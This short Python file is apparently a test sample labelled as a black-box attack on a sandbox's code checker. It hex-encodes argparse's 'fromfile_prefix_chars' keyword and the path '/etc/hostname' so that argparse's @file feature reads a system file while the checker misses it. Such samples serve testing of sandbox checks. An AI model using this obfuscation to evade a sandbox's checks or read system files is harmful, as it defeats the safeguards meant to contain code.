# Source: black-box attack on sandexec's check, 2026-11-26; family: keywords computed at run time (fromfile_prefix_chars)
# Verified to run in sandexec-python:bookworm when unchecked.
import argparse
def s(h):
    return bytes.fromhex(h).decode()
p = argparse.ArgumentParser(**{s("66726f6d66696c655f7072656669785f6368617273"): "@"})
p.add_argument("rest", nargs="*")
print(p.parse_args(["@" + s("2f6574632f686f73746e616d65")]))
